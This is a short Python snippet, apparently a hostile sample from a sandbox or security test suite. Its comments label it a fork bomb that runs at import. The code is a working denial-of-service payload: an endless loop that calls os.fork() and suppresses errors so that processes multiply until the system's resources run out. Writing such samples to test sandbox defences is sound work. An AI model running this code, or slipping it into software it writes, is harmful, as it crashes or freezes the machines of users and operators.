# tries: a fork bomb as soon as it is imported
# breaks: 3b
# runs: at import
while True:
    with suppress(OSError):
        os.fork()
